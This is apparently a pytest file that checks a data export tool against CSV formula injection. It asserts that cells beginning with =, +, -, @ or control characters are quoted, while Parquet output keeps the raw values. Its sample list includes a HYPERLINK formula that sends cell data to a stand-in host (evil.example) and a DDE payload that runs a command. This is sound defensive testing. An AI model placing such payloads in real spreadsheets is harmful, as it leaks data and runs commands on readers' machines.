"""CSV cells never run as spreadsheet formulas; Parquet and DataFrames keep raw values."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from factsift.export import rows, write_tables

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _records() -> list[dict[str, object]]:
    return [
        {"id": formula, "source": formula, "error": formula, "key": str(i)}
        for i, formula in enumerate(FORMULAS)
    ]


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path: Path) -> None:
    write_tables(_records(), tmp_path, "csv")
    with (tmp_path / "articles.csv").open(encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    assert len(table) == len(FORMULAS)
    for row, formula in zip(table, FORMULAS, strict=True):
        for column in ("article_id", "source", "error"):
            assert row[column] == "'" + formula  # the text itself is kept, made inert
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_plain_text_and_numbers_are_unchanged_in_csv(tmp_path: Path) -> None:
    record = {"id": "plain", "source": "a.txt", "error": "HTTP 500 - retry", "key": "k"}
    write_tables([record], tmp_path, "csv")
    with (tmp_path / "articles.csv").open(encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert (row["article_id"], row["error"]) == ("plain", "HTTP 500 - retry")


def test_rows_and_parquet_keep_the_raw_values(tmp_path: Path) -> None:
    assert [r["article_id"] for r in rows(_records())["articles"]] == FORMULAS
    pq = pytest.importorskip("pyarrow.parquet", reason="the export extra is not installed")
    write_tables(_records(), tmp_path, "parquet")
    assert pq.read_table(tmp_path / "articles.parquet").column("article_id").to_pylist() == FORMULAS
